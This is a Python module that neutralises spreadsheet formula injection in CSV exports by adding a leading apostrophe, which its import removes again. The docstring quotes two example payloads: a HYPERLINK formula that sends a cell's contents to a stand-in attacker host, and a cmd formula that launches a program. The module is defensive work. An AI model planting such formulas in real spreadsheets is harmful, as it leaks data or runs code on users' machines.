"""Cells a spreadsheet would run as a formula, written so it shows them as text.

Excel and LibreOffice take a cell starting with = + - @ (or a tab or carriage
return before one) for a formula: a shared deck's word
`=HYPERLINK("http://evil.example/?"&B2, "click")` sent the neighbouring cell
away when clicked, and `=cmd|' /C calc'!A0` offered to run a program. As
OWASP recommends, such a cell is written with a leading apostrophe, the
spreadsheet's "this is text" mark. A word list's suffixes ("-tion") get one
too: without it Excel shows them as #NAME?.

Our own import takes the apostrophe off again where the export put it, before
one of those characters (after any apostrophes the word itself began with),
so an exported list reads back exactly: "'-tion" is "-tion", "''=x" is "'=x",
and "'tis" stays "'tis".
"""

from __future__ import annotations

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _runs(cell: str) -> bool:
    return cell.lstrip("'").startswith(_FORMULA_START)


def defused(cell: str) -> str:
    """The cell as written to a CSV file: an apostrophe first if a spreadsheet would run it."""
    return "'" + cell if _runs(cell) else cell


def undefused(cell: str) -> str:
    """The cell as `defused` was given it."""
    return cell[1:] if cell[:1] == "'" and _runs(cell) else cell
